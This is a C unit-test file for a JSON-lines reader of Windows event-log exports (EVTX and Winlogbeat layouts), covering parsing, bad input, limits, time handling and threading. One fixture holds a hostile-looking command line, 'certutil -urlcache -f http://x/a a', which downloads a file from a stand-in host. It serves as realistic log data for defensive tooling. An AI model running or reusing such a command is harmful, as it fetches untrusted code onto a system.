/* The JSON-lines reader: both layouts, bad input, limits, times, files. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#include "jsonl/jsonl_internal.h"
#include "plainsight/jsonl.h"

#define MAX_SEEN 8

/* What the callbacks saw: the last events' key fields and every diagnostic. */
typedef struct seen {
    int events;
    char dump[MAX_SEEN][2048];       /* "path=value(kind)\n" per field */
    uint32_t event_id[MAX_SEEN];
    uint64_t record_id[MAX_SEEN], filetime[MAX_SEEN], offset[MAX_SEEN];
    char channel[MAX_SEEN][64], computer[MAX_SEEN][64], provider[MAX_SEEN][64];
    int diags;
    uint64_t diag_line[MAX_SEEN];
    char diag_msg[MAX_SEEN][256];
    int stop_after;
} seen;

static int on_event(void *ctx, unsigned worker, const ps_event *ev)
{
    (void)worker;
    seen *s = ctx;
    int i = s->events++;
    if (i < MAX_SEEN) {
        size_t n = 0;
        for (uint32_t f = 0; f < ev->nfields; f++)
            n += (size_t)snprintf(s->dump[i] + n, sizeof s->dump[i] - n, "%s=%s(%d)\n",
                                  ev->fields[f].path, ev->fields[f].value, ev->fields[f].kind);
        s->event_id[i] = ev->event_id;
        s->record_id[i] = ev->record_id;
        s->filetime[i] = ev->time_filetime;
        s->offset[i] = ev->offset;
        snprintf(s->channel[i], 64, "%s", ev->channel);
        snprintf(s->computer[i], 64, "%s", ev->computer);
        snprintf(s->provider[i], 64, "%s", ev->provider);
    }
    return s->stop_after && s->events >= s->stop_after;
}

static void on_diag(void *ctx, const ps_diag *d)
{
    seen *s = ctx;
    int i = s->diags++;
    if (i < MAX_SEEN) {
        s->diag_line[i] = d->is_line ? d->offset : 0;
        snprintf(s->diag_msg[i], sizeof s->diag_msg[i], "%s", d->message);
    }
}

static int read_text(const char *text, seen *s, const ps_jsonl_options *base, ps_jsonl_stats *st)
{
    ps_jsonl_options o = base ? *base : (ps_jsonl_options){0};
    o.diag = on_diag;
    o.diag_ctx = s;
    return ps_jsonl_events_mem(text, strlen(text), "mem.jsonl", &o, on_event, s, st);
}

static const char EVTX_LINE[] =
    "{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"},"
    "\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\"}},"
    "\"EventID\":1,\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2024-05-01T10:00:00.123456Z\"}},"
    "\"EventRecordID\":42,\"Correlation\":null,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
    "\"Computer\":\"ws1\"},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\cmd.exe\",\"Ok\":true,"
    "\"Rate\":1.5,\"List\":[\"a\",\"b\"]}}}\n";

static void test_evtx_layout(void **state)
{
    (void)state;
    seen s = {0};
    ps_jsonl_stats st;
    assert_int_equal(read_text(EVTX_LINE, &s, NULL, &st), PS_OK);
    assert_int_equal(s.events, 1);
    assert_int_equal(s.diags, 0);
    assert_string_equal(s.dump[0],
        "Event.#attributes.xmlns=http://schemas.microsoft.com/win/2004/08/events/event(1)\n"
        "Event.System.Provider.#attributes.Name=Microsoft-Windows-Sysmon(1)\n"
        "Event.System.EventID=1(2)\n"
        "Event.System.TimeCreated.#attributes.SystemTime=2024-05-01T10:00:00.123456Z(1)\n"
        "Event.System.EventRecordID=42(2)\n"
        "Event.System.Correlation=(0)\n"
        "Event.System.Channel=Microsoft-Windows-Sysmon/Operational(1)\n"
        "Event.System.Computer=ws1(1)\n"
        "Event.EventData.Image=C:\\Windows\\cmd.exe(1)\n"
        "Event.EventData.Ok=true(3)\n"
        "Event.EventData.Rate=1.5(1)\n"
        "Event.EventData.List=a(1)\n"
        "Event.EventData.List=b(1)\n");
    assert_int_equal(s.event_id[0], 1);
    assert_int_equal(s.record_id[0], 42);
    uint64_t want;
    assert_int_equal(ps_time_parse("2024-05-01T10:00:00.123456Z", &want, NULL), 0);
    assert_true(s.filetime[0] == want);
    assert_string_equal(s.channel[0], "Microsoft-Windows-Sysmon/Operational");
    assert_string_equal(s.computer[0], "ws1");
    assert_string_equal(s.provider[0], "Microsoft-Windows-Sysmon");
    assert_int_equal(st.records, 1);
    assert_int_equal(st.skipped, 0);
}

/* UInt64 values past INT64_MAX are written bare (by evtx_dump and by
 * plainsight dump); jansson cannot hold them, and such events were once
 * skipped. They come back as integers, with their digits, and nothing else
 * of the object changes: a string that merely looks like the quoting, a
 * string of digits, a real, a 19-digit integer that fits. */
static void test_integers_past_64_bits(void **state)
{
    (void)state;
    static const char line[] =
        "{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Sec\"},\"EventData\":"
        "{\"Max\":18446744073709551615,\"Neg\":-9223372036854775809,"
        "\"Fits\":9223372036854775807,\"Digits\":\"18446744073709551615\","
        "\"Esc\":\"a\\\"18446744073709551615\",\"Real\":1.5e300,"
        "\"List\":[18446744073709551614,2]}}}\n"
        "{\"Event\":{\"System\":{\"EventID\":2},\"EventData\":"
        "{\"Odd\":\"\\uFFFF12\"}}}\n";
    seen s = {0};
    ps_jsonl_stats st;
    assert_int_equal(read_text(line, &s, NULL, &st), PS_OK);
    if (s.diags)
        fail_msg("diag at line %llu: %s", (unsigned long long)s.diag_line[0], s.diag_msg[0]);
    assert_int_equal(s.events, 2);
    assert_string_equal(s.dump[0],
        "Event.System.EventID=1(2)\n"
        "Event.System.Channel=Sec(1)\n"
        "Event.EventData.Max=18446744073709551615(2)\n"
        "Event.EventData.Neg=-9223372036854775809(2)\n"
        "Event.EventData.Fits=9223372036854775807(2)\n"
        "Event.EventData.Digits=18446744073709551615(1)\n"
        "Event.EventData.Esc=a\"18446744073709551615(1)\n"
        "Event.EventData.Real=1.5e+300(1)\n"
        "Event.EventData.List=18446744073709551614(2)\n"
        "Event.EventData.List=2(2)\n");
    /* Without a big integer in its object, a U+FFFF string stays a string. */
    assert_string_equal(s.dump[1],
        "Event.System.EventID=2(2)\n"
        "Event.EventData.Odd=\xEF\xBF\xBF" "12(1)\n");
}

/* Pretty-printed objects one after another, and a JSON array of them (what
 * `plainsight dump --format json` writes) give the same events. */
static void test_pretty_and_array(void **state)
{
    (void)state;
    const char *pretty =
        "{\n  \"Event\": {\n    \"System\": {\n      \"EventID\": 4688,\n"
        "      \"EventRecordID\": 1\n    }\n  }\n}\n"
        "{\n  \"Event\": {\n    \"System\": {\n      \"EventID\": 4624,\n"
        "      \"EventRecordID\": 2\n    }\n  }\n}\n";
    seen s = {0};
    assert_int_equal(read_text(pretty, &s, NULL, NULL), PS_OK);
    assert_int_equal(s.events, 2);
    assert_int_equal(s.diags, 0);
    assert_int_equal(s.event_id[1], 4624);
    assert_int_equal(s.offset[0], 0);
    assert_int_equal(s.offset[1], strstr(pretty, "}\n{") - pretty + 2);

    seen a = {0};
    assert_int_equal(read_text("[\n{\"Event\":{\"System\":{\"EventID\":1}}},\n"
                               "{\"Event\":{\"System\":{\"EventID\":2}}}\n]\n", &a, NULL, NULL),
                     PS_OK);
    assert_int_equal(a.events, 2);
    assert_int_equal(a.diags, 0);
    assert_int_equal(a.event_id[1], 2);
}

static void test_winlogbeat_nested(void **state)
{
    (void)state;
    const char *line =
        "{\"@timestamp\":\"2024-05-01T10:00:00.123Z\",\"message\":\"A process was created\","
        "\"host\":{\"name\":\"ws1\"},\"event\":{\"code\":\"4688\"},"
        "\"winlog\":{\"channel\":\"Security\",\"computer_name\":\"ws1.corp.local\","
        "\"event_id\":\"4688\",\"record_id\":\"9001\",\"provider_name\":\"Microsoft-Windows-Security-Auditing\","
        "\"provider_guid\":\"{54849625-5478-4994-A5BA-3E3B0328C30D}\","
        "\"process\":{\"pid\":4,\"thread\":{\"id\":8}},\"task\":\"Process Creation\","
        "\"event_data\":{\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
        "\"CommandLine\":\"certutil -urlcache -f http://x/a a\"}}}\n";
    seen s = {0};
    assert_int_equal(read_text(line, &s, NULL, NULL), PS_OK);
    assert_int_equal(s.events, 1);
    assert_int_equal(s.diags, 0);
    assert_string_equal(s.dump[0],
        "Event.System.Provider.#attributes.Name=Microsoft-Windows-Security-Auditing(1)\n"
        "Event.System.Provider.#attributes.Guid=54849625-5478-4994-A5BA-3E3B0328C30D(1)\n"
        "Event.System.EventID=4688(2)\n"
        "Event.System.TimeCreated.#attributes.SystemTime=2024-05-01T10:00:00.123000Z(1)\n"
        "Event.System.EventRecordID=9001(2)\n"
        "Event.System.Execution.#attributes.ProcessID=4(2)\n"
        "Event.System.Execution.#attributes.ThreadID=8(2)\n"
        "Event.System.Channel=Security(1)\n"
        "Event.System.Computer=ws1.corp.local(1)\n"
        "Event.EventData.NewProcessName=C:\\Windows\\System32\\certutil.exe(1)\n"
        "Event.EventData.CommandLine=certutil -urlcache -f http://x/a a(1)\n");
    assert_int_equal(s.event_id[0], 4688);
    assert_int_equal(s.record_id[0], 9001);
    assert_string_equal(s.channel[0], "Security");
    assert_string_equal(s.computer[0], "ws1.corp.local");
    uint64_t want;
    assert_int_equal(ps_time_parse("2024-05-01T10:00:00.123Z", &want, NULL), 0);
    assert_true(s.filetime[0] == want);
}

/* SIEM exports that flatten keys ("winlog.event_data.X" as one key), and
 * user_data nested under its root element's name as in EVTX. */
static void test_winlogbeat_flat_and_user_data(void **state)
{
    (void)state;
    const char *text =
        "{\"winlog.event_id\":7045,\"winlog.channel\":\"System\","
        "\"winlog.event_data.ServiceName\":\"PSEXESVC\"}\n"
        "{\"winlog\":{\"event_id\":1102,\"channel\":\"Security\",\"user_data\":"
        "{\"xml_name\":\"LogFileCleared\",\"SubjectUserName\":\"admin\"}}}\n";
    seen s = {0};
    assert_int_equal(read_text(text, &s, NULL, NULL), PS_OK);
    assert_int_equal(s.events, 2);
    assert_string_equal(s.dump[0], "Event.System.EventID=7045(2)\n"
                                   "Event.System.Channel=System(1)\n"
                                   "Event.EventData.ServiceName=PSEXESVC(1)\n");
    assert_string_equal(s.dump[1], "Event.System.EventID=1102(2)\n"
                                   "Event.System.Channel=Security(1)\n"
                                   "Event.UserData.LogFileCleared.SubjectUserName=admin(1)\n");
}

/* Bad lines are reported with their line number and skipped; the good ones
 * around them are delivered. */
static void test_bad_lines(void **state)
{
    (void)state;
    const char *text =
        "{\"Event\":{\"System\":{\"EventID\":1}}}\n"   /* 1 ok */
        "garbage here\n"                               /* 2 not JSON */
        "{\"Event\":{\"System\":{\"EventID\":2}}}\n"   /* 3 ok */
        "{\"Event\": {\"System\": tru}}\n"             /* 4 invalid JSON */
        "{\"foo\": 1}\n"                               /* 5 not an event */
        "{\"Event\":{\"System\":{\"EventID\":\n"       /* 6 cut short */
        "{\"Event\":{\"System\":{\"EventID\":3}}}\n"   /* 7 ok */
        "[1, 2]\n"                                     /* 8 array of non-objects */
        "{\"Event\":{\"System\":{\"EventID\":4}}}\n"   /* 9 ok */
        "{\"Event\":{\"System\":{\"EventID\":5}";      /* 10 cut by end of file */
    seen s = {0};
    ps_jsonl_stats st;
    assert_int_equal(read_text(text, &s, NULL, &st), PS_OK);
    assert_int_equal(s.events, 4);
    assert_int_equal(s.event_id[0], 1);
    assert_int_equal(s.event_id[1], 2);
    assert_int_equal(s.event_id[2], 3);
    assert_int_equal(s.event_id[3], 4);
    assert_int_equal(s.diags, 6);
    assert_int_equal(st.skipped, 6);
    uint64_t lines[] = {2, 4, 5, 6, 8, 10};
    for (int i = 0; i < 6; i++)
        assert_int_equal(s.diag_line[i], lines[i]);
    assert_non_null(strstr(s.diag_msg[1], "invalid JSON"));
    assert_non_null(strstr(s.diag_msg[2], "not an event"));
    assert_non_null(strstr(s.diag_msg[3], "cut short"));
}

static void test_limits(void **state)
{
    (void)state;
    char big[600];
    snprintf(big, sizeof big,
             "{\"Event\":{\"EventData\":{\"X\":\"%0300d\"}}}\n{\"Event\":{\"System\":{\"EventID\":7}}}\n", 0);
    ps_jsonl_options small = {.max_object_bytes = 200};
    seen s = {0};
    assert_int_equal(read_text(big, &s, &small, NULL), PS_OK);
    assert_int_equal(s.events, 1);
    assert_int_equal(s.event_id[0], 7);
    assert_int_equal(s.diags, 1);
    assert_non_null(strstr(s.diag_msg[0], "larger than 200"));

    /* Deep nesting, with the rest of the object on following lines. */
    char deep[2048];
    size_t n = 0;
    n += (size_t)snprintf(deep + n, sizeof deep - n, "{\"Event\":");
    for (int i = 0; i < 100; i++)
        n += (size_t)snprintf(deep + n, sizeof deep - n, "{\"a\":");
    n += (size_t)snprintf(deep + n, sizeof deep - n, "1\n");
    for (int i = 0; i < 101; i++)
        n += (size_t)snprintf(deep + n, sizeof deep - n, "}");
    snprintf(deep + n, sizeof deep - n, "\n{\"Event\":{\"System\":{\"EventID\":8}}}\n");
    seen d = {0};
    assert_int_equal(read_text(deep, &d, NULL, NULL), PS_OK);
    assert_int_equal(d.events, 1);
    assert_int_equal(d.event_id[0], 8);
    assert_int_equal(d.diags, 1);
    assert_non_null(strstr(d.diag_msg[0], "nested deeper"));

    /* Braces inside strings do not count. */
    seen q = {0};
    assert_int_equal(read_text("{\"Event\":{\"EventData\":{\"X\":\"}}{{\\\"}\"}}}\n", &q, NULL, NULL),
                     PS_OK);
    assert_int_equal(q.events, 1);
    assert_int_equal(q.diags, 0);
    assert_string_equal(q.dump[0], "Event.EventData.X=}}{{\"}(1)\n");
}

static void test_stop(void **state)
{
    (void)state;
    seen s = {.stop_after = 1};
    assert_int_equal(read_text("{\"Event\":{}}\n{\"Event\":{}}\n", &s, NULL, NULL), PS_ERR_STOP);
    assert_int_equal(s.events, 1);
}

static void test_time_parse(void **state)
{
    (void)state;
    uint64_t ft, ft2;
    int date_only;
    assert_int_equal(ps_time_parse("1970-01-01T00:00:00Z", &ft, &date_only), 0);
    assert_true(ft == 116444736000000000ull);
    assert_int_equal(date_only, 0);
    assert_int_equal(ps_time_parse("1970-01-01", &ft, &date_only), 0);
    assert_true(ft == 116444736000000000ull);
    assert_int_equal(date_only, 1);
    assert_int_equal(ps_time_parse("2024-05-01 12:00:00+02:00", &ft, NULL), 0);
    assert_int_equal(ps_time_parse("2024-05-01T10:00", &ft2, NULL), 0);
    assert_true(ft == ft2);
    assert_int_equal(ps_time_parse("2024-05-01T10:00:00.1234567Z", &ft, NULL), 0);
    assert_true(ft - ft2 == 1234567);
    assert_int_equal(ps_time_parse("2024-02-29T23:59:59Z", &ft, NULL), 0);
    assert_int_equal(ps_time_parse("2024-03-01T00:00:00Z", &ft2, NULL), 0);
    assert_true(ft2 - ft == 10000000ull);
    assert_int_equal(ps_time_parse("yesterday", &ft, NULL), -1);
    assert_int_equal(ps_time_parse("2024-13-01", &ft, NULL), -1);
    assert_int_equal(ps_time_parse("2024-05-01T25:00:00Z", &ft, NULL), -1);
    assert_int_equal(ps_time_parse("2024-05-01T10:00:00Zjunk", &ft, NULL), -1);
    assert_int_equal(ps_time_parse("2024-05-01T10:00:00.", &ft, NULL), -1);
}

static void write_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static void test_files_and_dirs(void **state)
{
    (void)state;
    char dir[] = "/tmp/ps_jsonl_XXXXXX";
    assert_non_null(mkdtemp(dir));
    char p[256], sub[256], txt[256], q[256];
    snprintf(sub, sizeof sub, "%s/sub", dir);
    assert_int_equal(mkdir(sub, 0700), 0);
    snprintf(p, sizeof p, "%s/a.jsonl", dir);
    write_file(p, "{\"Event\":{\"System\":{\"EventID\":1}}}\n{\"Event\":{\"System\":{\"EventID\":2}}}\n");
    snprintf(q, sizeof q, "%s/sub/b.JSON", dir);
    write_file(q, "{\n \"Event\": {}\n}\n");
    snprintf(txt, sizeof txt, "%s/notes.txt", dir);
    write_file(txt, "not read\n");
    const char *inputs[] = {dir, "/nonexistent/x.jsonl"};
    ps_jsonl_options o = {.threads = 2, .diag = on_diag};
    seen s = {0};
    o.diag_ctx = &s;
    ps_jsonl_stats st;
    assert_int_equal(ps_jsonl_events(inputs, 2, &o, on_event, &s, &st), PS_OK);
    assert_int_equal(s.events, 3);
    assert_int_equal(st.files, 2);
    assert_int_equal(st.files_failed, 1);
    assert_int_equal(st.records, 3);
    assert_int_equal(s.diags, 1);
    assert_true(ps_jsonl_is_json_name("x.ndjson") && !ps_jsonl_is_json_name("x.evtx"));
    unlink(p), unlink(q), unlink(txt), rmdir(sub), rmdir(dir);
}

/* One large export read with several threads: the reading thread hands its
 * objects over in batches to the others, so events come in another order,
 * but each comes once, with its byte offset, and each damaged line is
 * reported with its own line number, as with one thread. */
#define BIG_OBJECTS 20000
#define BIG_BAD_EVERY 997

typedef struct big_seen {
    pthread_mutex_t lock;
    uint8_t *seen;            /* per record id: times seen */
    uint64_t *offset;         /* per record id: the offset reported */
    uint64_t bad_lines[BIG_OBJECTS / BIG_BAD_EVERY + 2];
    size_t nbad, events, max_worker;
    size_t stop_after, after_stop;   /* calls once a stop was asked for */
} big_seen;

static int on_big_event(void *ctx, unsigned worker, const ps_event *ev)
{
    big_seen *b = ctx;
    pthread_mutex_lock(&b->lock);
    if (b->stop_after && b->events >= b->stop_after)
        b->after_stop++;
    if (ev->record_id < BIG_OBJECTS) {
        b->seen[ev->record_id]++;
        b->offset[ev->record_id] = ev->offset;
    }
    b->events++;
    if (worker > b->max_worker)
        b->max_worker = worker;
    int stop = b->stop_after && b->events >= b->stop_after;
    pthread_mutex_unlock(&b->lock);
    return stop;
}

static void on_big_diag(void *ctx, const ps_diag *d)
{
    big_seen *b = ctx;
    pthread_mutex_lock(&b->lock);
    if (d->is_line && b->nbad < sizeof b->bad_lines / sizeof *b->bad_lines)
        b->bad_lines[b->nbad++] = d->offset;
    pthread_mutex_unlock(&b->lock);
}

static int cmp_u64(const void *a, const void *b)
{
    uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
    return (x > y) - (x < y);
}

/* The file: object i on line i + 1 (record id i), every BIG_BAD_EVERY-th
 * line damaged instead; want_offset[i] is where object i starts. */
static void write_big(const char *path, uint64_t *want_offset)
{
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    for (int i = 0; i < BIG_OBJECTS; i++) {
        want_offset[i] = (uint64_t)ftell(f);
        if (i % BIG_BAD_EVERY == BIG_BAD_EVERY - 1)
            fprintf(f, "{\"Event\": {\"System\": nope}}\n");
        else
            fprintf(f, "{\"Event\":{\"System\":{\"EventID\":4688,\"EventRecordID\":%d,"
                       "\"Channel\":\"Security\"},\"EventData\":{\"CommandLine\":"
                       "\"cmd.exe /c echo %d padding padding padding padding padding\"}}}\n", i, i);
    }
    fclose(f);
}

static void read_big(const char *path, unsigned threads, big_seen *b, ps_jsonl_stats *st)
{
    memset(b->seen, 0, BIG_OBJECTS);
    b->nbad = b->events = b->max_worker = 0;
    ps_jsonl_options o = {.threads = threads, .diag = on_big_diag, .diag_ctx = b};
    int rc = ps_jsonl_events((const char *[]){path}, 1, &o, on_big_event, b, st);
    assert_int_equal(rc, b->stop_after ? PS_ERR_STOP : PS_OK);
}

static void test_one_big_file_threads(void **state)
{
    (void)state;
    char path[] = "/tmp/ps_jsonl_big_XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    close(fd);
    uint64_t *want_offset = calloc(BIG_OBJECTS, sizeof *want_offset);
    big_seen b = {.seen = calloc(BIG_OBJECTS, 1), .offset = calloc(BIG_OBJECTS, sizeof(uint64_t))};
    assert_non_null(want_offset);
    assert_non_null(b.seen);
    assert_non_null(b.offset);
    pthread_mutex_init(&b.lock, NULL);
    write_big(path, want_offset);
    const unsigned threads[] = {1, 2, 4};
    for (size_t t = 0; t < sizeof threads / sizeof *threads; t++) {
        ps_jsonl_stats st;
        read_big(path, threads[t], &b, &st);
        size_t bad = 0;
        for (int i = 0; i < BIG_OBJECTS; i++) {
            int damaged = i % BIG_BAD_EVERY == BIG_BAD_EVERY - 1;
            bad += damaged;
            assert_int_equal(b.seen[i], damaged ? 0 : 1);
            if (!damaged)
                assert_true(b.offset[i] == want_offset[i]);
        }
        assert_int_equal(b.events, BIG_OBJECTS - bad);
        assert_int_equal(st.records, BIG_OBJECTS - bad);
        assert_int_equal(st.skipped, bad);
        assert_int_equal(st.files, 1);
        assert_int_equal(b.nbad, bad);
        qsort(b.bad_lines, b.nbad, sizeof *b.bad_lines, cmp_u64);
        for (size_t k = 0; k < b.nbad; k++)
            assert_true(b.bad_lines[k] == (k + 1) * BIG_BAD_EVERY);
        assert_true(b.max_worker < threads[t]);
    }
    /* a stop ends every thread's work soon: far from every event is seen */
    b.stop_after = 10;
    ps_jsonl_stats st;
    read_big(path, 2, &b, &st);
    assert_true(b.events >= 10 && b.events < BIG_OBJECTS / 2);
    assert_true(b.after_stop <= 1); /* at most the other thread's event in flight */
    pthread_mutex_destroy(&b.lock);
    free(b.seen);
    free(b.offset);
    free(want_offset);
    unlink(path);
}

/* ---- the streaming path against jansson's tree -------------------------------------- */

#define EV_HEAD "{\"Event\":{\"System\":{\"EventID\":4688,\"Channel\":\"Security\"},\"EventData\":"

static void test_stream_matches_tree(void **state)
{
    (void)state;
    static const char *const same[] = {
        EVTX_LINE,
        EV_HEAD "{\"A\":1.0,\"B\":1e5,\"C\":0.1,\"D\":-2.5e-3,\"E\":-0,\"F\":123456789012345678,"
        "\"G\":1.7976931348623157e308,\"H\":5e-324,\"I\":-12}}}",
        EV_HEAD "{\"Big\":18446744073709551615,\"Neg\":-9223372036854775809,\"S\":\"x\"}}}",
        EV_HEAD "{\"Esc\":\"\\\"\\\\\\/\\b\\f\\n\\r\\t\\u00e9\\u20ac\",\"Nul\":\"a\\u0000b\","
        "\"Raw\":\"caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80\"}}}",
        "{\"a\":{\"x\":[1,{\"y\":2}],\"Event\":3},\"Event\":{\"System\":{\"EventID\":1}},\"z\":[[]]}",
        EV_HEAD "{\"Data\":[{\"#text\":\"a\"},{\"#text\":\"b\",\"#attributes\":{\"Name\":\"n\"}}],"
        "\"N\":[[1,2],[3],[]],\"O\":{},\"T\":true,\"F\":false,\"Z\":null}}}",
        "  {\"Event\" : { \"System\" : { \"EventID\" : 7 } } }  \r",
        "{\"Event\":{\"k.with.dots\":\"v\",\"\":\"empty key\",\"UserData\":{\"X\":{\"Y\":\"z\"}}}}",
    };
    static const char *const declined[] = {
        "{\"Event\":{\"System\":{\"EventID\":1,\"EventID\":2}}}",     /* jansson keeps the last */
        "{\"Event\":{\"System\":{}},\"Event\":{\"System\":{}}}",
        EV_HEAD "{\"S\":\"\\ud83d\\ude00\"}}}",                          /* a surrogate pair */
        EV_HEAD "{\"S\":\"\\ud800\"}}}",                                 /* a lone one */
        EV_HEAD "{\"S\":\"\xed\xa0\x80\"}}}",                            /* UTF-8 of a surrogate */
        EV_HEAD "{\"S\":\"\xc0\xaf\"}}}",                                /* overlong */
        EV_HEAD "{\"S\":\"\xf4\x90\x80\x80\"}}}",                        /* past U+10FFFF */
        EV_HEAD "{\"R\":1e400}}}",
        "{\"skip\":[1e400],\"Event\":{}}",
        "{\"winlog\":{\"event_id\":1,\"channel\":\"Security\"}}",
        "[1]", "{\"Event\":5}", "{\"Event\":[]}", "{}", "", "{\"Event\":{}},",
        EV_HEAD "{\"A\":1,}}}",
        EV_HEAD "{\"K\\u0000\":1}}}",
    };
    jl_builder b, tb;
    jl_builder_init(&b);
    jl_builder_init(&tb);
    ps_buf quoted;
    ps_buf_init(&quoted);
    for (size_t i = 0; i < sizeof same / sizeof *same; i++) {
        ps_event ev, tev;
        char why[240];
        uint64_t line;
        if (jl_stream_event(&b, same[i], strlen(same[i]), &ev) != 0)
            fail_msg("object %zu was declined: %s", i, same[i]);
        assert_int_equal(jl_tree_event(&tb, &quoted, same[i], strlen(same[i]), &tev, why,
                                       sizeof why, &line), 0);
        if (!jl_same_event(&ev, &tev))
            fail_msg("object %zu: the streamed event differs from jansson's: %s", i, same[i]);
    }
    for (size_t i = 0; i < sizeof declined / sizeof *declined; i++) {
        ps_event ev;
        if (jl_stream_event(&b, declined[i], strlen(declined[i]), &ev) != JL_STREAM_DECLINED)
            fail_msg("object %zu was not left to jansson: %s", i, declined[i]);
    }
    /* objects left mid-way leave nothing behind for the next one */
    for (int k = 0; k < 500; k++) {
        ps_event ev;
        assert_int_equal(jl_stream_event(&b, declined[0], strlen(declined[0]), &ev),
                         JL_STREAM_DECLINED);
    }
    {
        ps_event ev;
        assert_int_equal(jl_stream_event(&b, same[0], strlen(same[0]), &ev), 0);
    }
    /* nesting past the streaming path's depth */
    char deep[512];
    size_t n = (size_t)snprintf(deep, sizeof deep, "{\"Event\":");
    for (int d = 0; d < 70; d++)
        n += (size_t)snprintf(deep + n, sizeof deep - n, "{\"k\":");
    n += (size_t)snprintf(deep + n, sizeof deep - n, "1");
    for (int d = 0; d < 71; d++)
        deep[n++] = '}';
    ps_event ev;
    assert_int_equal(jl_stream_event(&b, deep, n, &ev), JL_STREAM_DECLINED);
    ps_buf_free(&quoted);
    jl_builder_free(&b);
    jl_builder_free(&tb);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_evtx_layout),       cmocka_unit_test(test_stream_matches_tree),
        cmocka_unit_test(test_integers_past_64_bits),       cmocka_unit_test(test_pretty_and_array),
        cmocka_unit_test(test_winlogbeat_nested), cmocka_unit_test(test_winlogbeat_flat_and_user_data),
        cmocka_unit_test(test_bad_lines),         cmocka_unit_test(test_limits),
        cmocka_unit_test(test_stop),              cmocka_unit_test(test_time_parse),
        cmocka_unit_test(test_files_and_dirs),    cmocka_unit_test(test_one_big_file_threads),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
